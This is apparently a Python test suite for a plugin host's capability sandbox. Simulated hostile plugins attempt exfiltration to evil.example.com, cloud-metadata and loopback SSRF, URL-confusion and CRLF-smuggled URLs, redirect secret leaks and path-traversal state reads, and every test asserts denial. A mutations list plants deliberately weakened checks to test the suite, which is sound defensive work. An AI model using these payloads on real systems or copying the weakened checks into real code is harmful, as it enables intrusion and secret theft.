"""Attacks through the host's functions, by plugins that were granted a part of them."""

from __future__ import annotations

import itertools
import re
from typing import Any

from arena import ROWS, SECRET, Arena, Mutation, answers, attack, probe
from dataflare.capabilities import plugins, secrets, shared, state
from dataflare.capabilities.http_broker import HttpBroker
from dataflare.capabilities.http_rules import Url
from dataflare.capabilities.http_transport import Canned
from dataflare.capabilities.state import MemoryStateStore, StateLimits
from dataflare.errors import ConfigError, PermissionDenied, ProtocolFault
from dataflare.grants import DirectoryGrant, Grants, HttpGrant, Origin
from dataflare.runtime.processor import Processor
from dataflare.security.admission import PipelineIdentity
from plugin_wat import DATA, RESULT, Hostile, answer_outcome, hostile, shape_with

PATH = f"(local.get $p) (local.get $n) (i32.const {RESULT})"
NAME = PATH

ORIGIN = "https://api.example.com"
METHOD = f"GETPOSTDELETEGET:{ORIGIN}".encode()


def http_arguments(method: str) -> str:
    at = METHOD.index(method.encode())
    return (
        f"(i32.const {DATA + at}) (i32.const {len(method)}) (local.get $p) (local.get $n) "
        f"(i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) "
        f"(i32.const {RESULT})"
    )


def browser(method: str = "GET") -> Hostile:
    function = "http#send"
    body = f"(call $http#send {http_arguments(method)}) {answer_outcome(function, shape_with((function,)))}"
    return hostile({"ask": body}, uses=(function,), data=METHOD)


class Web:
    """A plugin that may GET from one origin, and what it asks for."""

    def __init__(self, arena: Arena, method: str = "GET", **origins: HttpGrant) -> None:
        self.arena = arena
        self.made = browser(method)
        grants = Grants(http=origins or {ORIGIN: HttpGrant(methods=frozenset({"GET"}))})
        self.plugin: Processor = arena.load(self.made.binary, grants=grants)

    def expect(self, case: str, url: str) -> None:
        self.arena.answers_with(case, self.plugin, self.made, "http#send", url)

    def assert_nothing_sent(self, beyond: int = 0) -> None:
        assert len(self.arena.transport.sent) == beyond, [str(each.url) for each in self.arena.transport.sent]


def granting(*origins: str) -> dict[str, HttpGrant]:
    return {origin: HttpGrant(methods=frozenset({"GET"})) for origin in origins}


@attack("network")
def origin_that_was_not_granted(arena: Arena) -> None:
    """Send data to an origin of the attacker's."""
    web = Web(arena)
    web.expect("ok", f"{ORIGIN}/rates")
    web.expect("denied", "https://evil.example.com/?data=rows")
    arena.assert_denied(capability="http", object="http:GET:https://evil.example.com")
    assert "data=rows" not in "".join(each.object for each in arena.log.events)
    web.assert_nothing_sent(beyond=1)


@attack("network")
def method_that_was_not_granted(arena: Arena) -> None:
    """Delete at an origin that may only be read."""
    web = Web(arena, "DELETE")
    web.expect("denied", f"{ORIGIN}/rates")
    arena.assert_denied(capability="http", object=f"http:DELETE:{ORIGIN}")
    web.assert_nothing_sent()


@attack("network")
def another_scheme_or_port_of_a_granted_host(arena: Arena) -> None:
    """Ask a granted host without encryption, or at another port."""
    web = Web(arena)
    web.expect("denied", "http://api.example.com/")
    web.expect("denied", "https://api.example.com:8443/")
    web.assert_nothing_sent()


@attack("network")
def host_hidden_behind_user_information(arena: Arena) -> None:
    """Write the granted host before an `@`, and another one behind it."""
    web = Web(arena)
    for url in ("https://api.example.com@evil.example.com/", "https://api.example.com:443@evil.example.com/"):
        found = web.made.outcome("http#send", web.plugin.process(web.made.order("ask", url)))
        assert found in ("denied", "invalid-request"), found
    web.assert_nothing_sent()


@attack("network")
def url_that_readers_understand_differently(arena: Arena) -> None:
    """Use backslashes, line breaks or other characters that parsers disagree on."""
    web = Web(arena)
    for url in (
        "https://api.example.com\\@evil.example.com/",
        "https://api.example.com\r\nHost: evil.example.com/",
        "https://evil.example.com#@api.example.com/",
        "https://api.example.com.evil.example.com/",
        "https:///api.example.com/",
    ):
        found = web.made.outcome("http#send", web.plugin.process(web.made.order("ask", url)))
        assert found in ("denied", "invalid-request"), (url, found)
    web.assert_nothing_sent()


@attack("network")
def granted_name_with_a_private_address(arena: Arena) -> None:
    """Let a granted name's DNS answer with an address of the internal network."""
    web = Web(arena, **granting("https://inside.example"))
    web.expect("denied", "https://inside.example/")
    arena.assert_denied(capability="http", object="http:GET:https://inside.example")
    web.assert_nothing_sent()


@attack("network")
def metadata_service_of_a_cloud(arena: Arena) -> None:
    """Reach a cloud's metadata service, for its credentials."""
    origins = granting("http://metadata.example", "http://169.254.169.254")
    web = Web(arena, **origins)
    for origin in origins:
        web.expect("denied", f"{origin}/latest/meta-data/")
    web.assert_nothing_sent()


@attack("network")
def loopback_in_disguise(arena: Arena) -> None:
    """Reach the host's own loopback by another form of its address."""
    origins = granting("http://127.0.0.1", "http://[::ffff:7f00:1]", "http://[::1]")
    web = Web(arena, **origins)
    for origin in origins:
        web.expect("denied", f"{origin}/")
    web.assert_nothing_sent()


@attack("network")
def redirect_to_another_origin(arena: Arena) -> None:
    """Have a granted origin redirect to one that is not."""
    arena.answers = lambda _: Canned(status=302, headers=[("location", "https://evil.example.com/")])
    web = Web(arena)
    web.expect("denied", f"{ORIGIN}/")
    web.assert_nothing_sent(beyond=1)


@attack("network")
def redirect_to_a_private_address(arena: Arena) -> None:
    """Have a granted origin redirect to a granted name with a private address."""
    arena.answers = lambda _: Canned(status=302, headers=[("location", "https://inside.example/")])
    web = Web(arena, **granting(ORIGIN, "https://inside.example"))
    web.expect("denied", f"{ORIGIN}/")
    web.assert_nothing_sent(beyond=1)


@attack("network")
def response_without_end(arena: Arena) -> None:
    """Send a response that fills the host's memory."""
    arena.answers = lambda _: Canned(body=(b"x" * 2**16 for _ in range(2**20)))
    grant = HttpGrant(methods=frozenset({"GET"}), max_response_bytes=2**20)
    web = Web(arena, **{ORIGIN: grant})
    web.expect("too-large", f"{ORIGIN}/")


@attack("network")
def storm_of_requests(arena: Arena) -> None:
    """Send requests faster than was granted."""
    grant = HttpGrant(methods=frozenset({"GET"}), requests_per_s=0.01, burst=2)
    web = Web(arena, **{ORIGIN: grant})
    web.expect("ok", f"{ORIGIN}/")
    web.expect("ok", f"{ORIGIN}/")
    web.expect("rate-limited", f"{ORIGIN}/")
    web.assert_nothing_sent(beyond=2)


@attack("secrets")
def secret_that_was_not_granted(arena: Arena) -> None:
    """Ask for a secret that the store has, but the grant does not name."""
    made = probe("secrets#get", NAME)
    plugin = arena.load(made.binary, grants=Grants(secrets=frozenset({"token"})))
    arena.answers_with("ok", plugin, made, "secrets#get", "token")
    arena.answers_with("not-granted", plugin, made, "secrets#get", "other")
    arena.answers_with("not-granted", plugin, made, "secrets#get", "no-such-secret")
    arena.assert_denied(capability="secrets", object="secrets:other")


@attack("secrets")
def secret_in_a_name(arena: Arena) -> None:
    """Get a secret into the audit log by asking for an object whose name is the secret."""
    made = hostile(
        {
            "learn": f"(call $secrets#get {NAME})",
            "leak": f"(call $files#open {PATH})",
        },
        uses=("secrets#get", "files#open"),
    )
    (arena.folder / "in").mkdir()
    grants = Grants(secrets=frozenset({"token"}), files={"data": DirectoryGrant(path=arena.folder / "in")})
    plugin = arena.load(made.binary, grants=grants)
    plugin.process(made.order("learn", "token"))
    plugin.process(made.order("leak", f"{SECRET}/file"))
    plugin.process(made.order("leak", f"data/../{SECRET}"))
    assert arena.events(decision="deny", capability="files") and SECRET not in arena.shown_log()


@attack("secrets")
def injected_secret_sent_back(arena: Arena) -> None:
    """Have the server repeat the secret that the host added, to read it from the response."""
    arena.answers = lambda outgoing: Canned(body=repr(outgoing.headers).encode())
    grant = HttpGrant(methods=frozenset({"GET"}), secrets={"authorization": "Bearer {token}"})
    web = Web(arena, **{ORIGIN: grant})
    web.expect("denied", f"{ORIGIN}/echo")
    assert SECRET in repr(arena.transport.sent[0].headers) and SECRET not in arena.shown_log()


@attack("secrets")
def injected_secret_carried_to_another_origin(arena: Arena) -> None:
    """Have a redirect carry the secret of one origin to another."""
    arena.answers = lambda outgoing: (
        Canned(status=302, headers=[("location", "https://b.example/")])
        if outgoing.url.origin.host == "api.example.com"
        else Canned(body=b"thanks")
    )
    grant = HttpGrant(methods=frozenset({"GET"}), secrets={"x-key": "token"})
    web = Web(arena, **{ORIGIN: grant, **granting("https://b.example")})
    web.expect("ok", f"{ORIGIN}/")
    first, second = arena.transport.sent
    assert SECRET in repr(first.headers) and SECRET not in repr(second.headers)


CALL = f"(local.get $p) (local.get $n) (call $batches#new-batch (i32.const 1)) (i32.const {RESULT})"


@attack("neighbours")
def call_of_another_plugin(arena: Arena) -> None:
    """Call a plugin of the pipeline that was not granted."""
    made = probe("plugins#call", CALL)
    host = arena.host()
    arena.load(hostile({"nothing": ""}).binary, host, name="friend")
    arena.load(hostile({"nothing": ""}).binary, host, name="stranger")
    plugin = arena.load(made.binary, host, grants=Grants(plugins=frozenset({"friend"})))
    arena.answers_with("ok", plugin, made, "plugins#call", "friend")
    arena.answers_with("denied", plugin, made, "plugins#call", "stranger")
    arena.assert_denied(capability="plugins", object="plugins:stranger")


@attack("neighbours")
def plugins_that_call_in_a_circle(arena: Arena) -> None:
    """Have two plugins wait for each other forever."""
    made = probe("plugins#call", CALL)
    host = arena.host()
    arena.load(made.binary, host, name="one", grants=Grants(plugins=frozenset({"two"})))
    arena.refused_load(
        ConfigError,
        lambda: arena.load(made.binary, host, name="two", grants=Grants(plugins=frozenset({"one"}))),
        says="circle",
    )


@attack("neighbours")
def plugin_of_another_pipeline(arena: Arena) -> None:
    """Call a plugin of the granted name in somebody else's pipeline."""
    made = probe("plugins#call", CALL)
    host = arena.host()
    arena.load(hostile({"nothing": ""}).binary, host, name="friend", pipeline="theirs")
    plugin = arena.load(made.binary, host, pipeline="mine", grants=Grants(plugins=frozenset({"friend"})))
    arena.answers_with("not-found", plugin, made, "plugins#call", "friend")


@attack("neighbours")
def shared_batch_that_may_only_be_read(arena: Arena) -> None:
    """Replace a shared batch that may only be read."""
    made = probe("shared#put", CALL)
    plugin = arena.load(made.binary, grants=Grants(shared={"lookup": "read"}))
    arena.answers_with("denied", plugin, made, "shared#put", "lookup")
    arena.assert_denied(capability="shared", object="shared:write:lookup")


SET = f"(local.get $p) (local.get $n) (i32.const 0x100000) (i32.const 100000) (i32.const {RESULT})"
GET = f"(local.get $p) (local.get $n) (i32.const {RESULT})"


@attack("neighbours")
def state_of_another_plugin(arena: Arena) -> None:
    """Read another plugin's state by a key that looks like a path to it."""
    store = MemoryStateStore()
    host = arena.host(state_store=store)
    writer, reader = (
        probe("state#set", SET),
        hostile(
            {
                "ask": f"(call $state#get {GET}) (call $answer-outcome (i32.load8_u (i32.const {RESULT})) "
                f"(i32.load8_u (i32.const {RESULT + 4})))"
            },
            uses=("state#get",),
        ),
    )
    victim = arena.load(writer.binary, host, name="victim", grants=Grants(state=True))
    arena.answers_with("ok", victim, writer, "state#set", "mine")
    thief = arena.load(reader.binary, host, name="thief", grants=Grants(state=True))
    for name in ("mine", "../victim/mine", "victim/mine", "/default/victim/mine"):
        # `ok`, and an option that is none
        assert thief.process(reader.order("ask", name)) == "00", name
    assert store.get("default/victim", "mine") is not None


@attack("limits")
def state_that_fills_the_disk(arena: Arena) -> None:
    """Fill the state store."""
    made = probe("state#set", SET)
    host = arena.host(state_store=MemoryStateStore(limits=StateLimits(value_bytes=200_000, namespace_bytes=250_000)))
    plugin = arena.load(made.binary, host, grants=Grants(state=True))
    arena.answers_with("ok", plugin, made, "state#set", "a")
    arena.answers_with("ok", plugin, made, "state#set", "b")
    arena.answers_with("quota-exceeded", plugin, made, "state#set", "c")
    assert arena.counted("plugin", "state") == 1


@attack("deny")
def capability_in_the_metadata(arena: Arena) -> None:
    """Use a capability before anything is granted: while the host asks for metadata."""
    made = hostile(
        {"nothing": ""},
        uses=("logging#is-enabled", "clock#now"),
        metadata="(drop (call $logging#is-enabled (i32.const 0)))",
    )
    host = arena.host()
    arena.raises(PermissionDenied, lambda: host.metadata(made.binary), says="logging")
    arena.assert_denied(capability="host", function="metadata")


@attack("neighbours")
def rows_that_are_made_up(arena: Arena) -> None:
    """Return more records than were given, though records are mapped one by one."""
    made = hostile({"nothing": ""}, batch_result="(call $batches#new-batch (i32.const 1000))")
    plugin = arena.load(made.binary)
    arena.raises(ProtocolFault, lambda: plugin.process_batch(ROWS), says="1000 records of 3")


def _any_origin(broker: HttpBroker, url: Url, _: str) -> HttpGrant:
    """Grant each origin what the first one has, and each method."""
    tables: tuple[dict[Any, Any], ...] = (broker._grants, broker._limiters, broker._addresses)
    for kept in tables:
        kept.setdefault(url.origin, next(iter(kept.values())))
    return broker._grants[url.origin]


def _before_the_first_mark(text: str) -> Url:
    """Take what comes first for the host, as a careless parser does."""
    return Url(Origin("https", re.split(r"[^a-z.]", text.removeprefix("https://"))[0], 443), "/")


_SECRETS, _STATE, _PLUGINS, _SHARED = secrets.imports, state.imports, plugins.imports, shared.imports
MUTATIONS = [
    Mutation(
        "dataflare.capabilities.http_broker:parse_url",
        _before_the_first_mark,
        ("host_hidden_behind_user_information", "url_that_readers_understand_differently"),
    ),
    Mutation(
        "dataflare.capabilities.http_broker:read_body",
        lambda chunks, **_: b"".join(itertools.islice(chunks, 100)),
        ("response_without_end",),
    ),
    Mutation(
        "dataflare.capabilities.http_broker:HttpBroker._grant",
        lambda broker, *_: next(iter(broker._grants.values())),
        ("injected_secret_carried_to_another_origin",),
    ),
    Mutation(
        "dataflare.runtime.host:PipelineIdentity.vouched_for",
        lambda name: PipelineIdentity(name=name, granted_as=name, resource=f"pipelines/{name}", scope="all"),
        ("plugin_of_another_pipeline",),
    ),
    Mutation(
        "dataflare.capabilities.shared:imports",
        lambda store, granted, **options: _SHARED(store, dict.fromkeys(granted, "write"), **options),
        ("shared_batch_that_may_only_be_read",),
    ),
    Mutation("dataflare.runtime.launch:_refusal", answers(answers(False)), ("capability_in_the_metadata",)),
    Mutation("dataflare.runtime.processor:Processor._one_by_one", answers(None), ("rows_that_are_made_up",)),
    Mutation(
        "dataflare.capabilities.plugins:imports",
        lambda caller, plugin, granted: _PLUGINS(caller, plugin, granted | {"stranger"}),
        ("call_of_another_plugin",),
    ),
    Mutation(
        "dataflare.capabilities.http_broker:HttpBroker._grant",
        _any_origin,
        (
            *("origin_that_was_not_granted", "method_that_was_not_granted", "redirect_to_another_origin"),
            "another_scheme_or_port_of_a_granted_host",
        ),
    ),
    Mutation(
        "dataflare.capabilities.secrets:imports",
        lambda store, granted: _SECRETS(store, granted | {"other"}),
        ("secret_that_was_not_granted",),
    ),
    Mutation(
        "dataflare.capabilities.state:imports",
        lambda store, _: _STATE(store, "of-all"),
        ("state_of_another_plugin",),
    ),
]
